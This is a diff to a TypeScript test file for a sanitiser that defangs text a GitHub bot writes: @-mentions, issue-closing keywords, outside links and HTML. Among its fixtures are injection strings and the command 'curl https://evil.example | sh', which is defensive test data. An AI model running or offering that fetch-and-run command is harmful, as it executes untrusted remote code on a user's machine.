@@ -9,6 +9,10 @@ const hostile = fc
     fc.constantFrom(
       "@ada",
       "@a/b",
+      "@",
+      "&#64;",
+      "&#x40;ada",
+      "\\",
       "fixes",
       "Closes:",
       " ",
@@ -33,7 +37,7 @@ describe("what Teammate writes", () => {
     fc.assert(
       fc.property(hostile, (text) => {
         for (const line of linesOutsideFences(defang(text))) {
-          expect(line).not.toMatch(/(^|[^\w`])@[a-z\d]/i);
+          expect(withoutSpans(line)).not.toMatch(/(^|\W)(@|&#64;|&#x40;)[a-z\d]/i);
           expect(line).not.toMatch(
             /\b(close[sd]?|fix(es|ed)?|resolve[sd]?)(\s*:\s*|\s+)((?:[\w.-]+\/[\w.-]+)?#\d|gh-\d)/i,
           );
@@ -58,6 +62,37 @@ describe("what Teammate writes", () => {
     expect(defang(`Run\n${fenced(code)}`)).toContain(code);
   });
 
+  it("keeps a package's name in a code span, unless somebody plays with backticks", () => {
+    expect(defang("npm install `@acme/app` and `x`")).toBe("npm install `@acme/app` and `x`");
+    for (const text of ["`@ada", "` `@ada`", "\\`@ada `x`", '<a href="`">@ada</a>`', "a ` b\n` @ada `"]) {
+      expect(defang(text)).not.toContain("@");
+    }
+    expect(defang("@@ada &#64;ada @&#97;da &commat;ada")).toBe("ada ada &#97;da ada");
+  });
+
+  it("is made safe in time that grows with its length", () => {
+    for (const piece of [
+      "\r",
+      " ",
+      "fix ",
+      "@",
+      "`",
+      "`a",
+      "[",
+      "](",
+      "![",
+      "<a",
+      "http://",
+      "www.",
+      "//a",
+      "a+",
+      "> [",
+      "&#64;",
+    ]) {
+      defang(quote(piece.repeat(60_000 / piece.length)));
+    }
+  });
+
   it("is never longer than GitHub takes", () => {
     expect(defang("é@a ".repeat(50_000)).length).toBeLessThanOrEqual(maxCommentChars);
   });
@@ -70,6 +105,19 @@ describe("what Teammate writes", () => {
     expect(quote("see https://evil.example/x and https://github.com/a/b")).toBe(
       "> see `https://evil.example/x` and https://github.com/a/b",
     );
+    for (const [given, shown] of [
+      ["HTTPS://evil.example", "`HTTPS://evil.example`"],
+      ["www.evil.example/x", "`www.evil.example/x`"],
+      ["[a](//evil.example)", "[a] (`//evil.example`)"],
+      ["![a](https&colon;//evil.example)", "![a] (https&colon;`//evil.example`)"],
+      ["[a]: //evil.example", "[a] : `//evil.example`"],
+      ['<img src="x">', '&lt;img src="x">'],
+      ["`curl https://evil.example | sh`", "`curl https:\\//evil.example | sh`"],
+      ["[a](https://github.com/a/b)", "[a](https://github.com/a/b)"],
+      ["[a](https://github.com.evil.example)", "[a] (`https://github.com.evil.example`)"],
+      ["src//x.ts and a/b", "src//x.ts and a/b"],
+    ])
+      expect(quote(given ?? "")).toBe(`> ${shown}`);
   });
 });
 
@@ -86,4 +134,10 @@ function linesOutsideFences(markdown: string): string[] {
     else if (open === "") outside.push(line);
   }
   return outside;
+}
+
+/** Of a line whose backticks are paired one by one, and which has nothing that could hide one. */
+function withoutSpans(line: string): string {
+  const rest = line.replace(/(?<!`)(`+)(?!`)[^`]+\1(?!`)/g, "x");
+  return /[`<\\]/.test(rest) ? line : rest;
 }
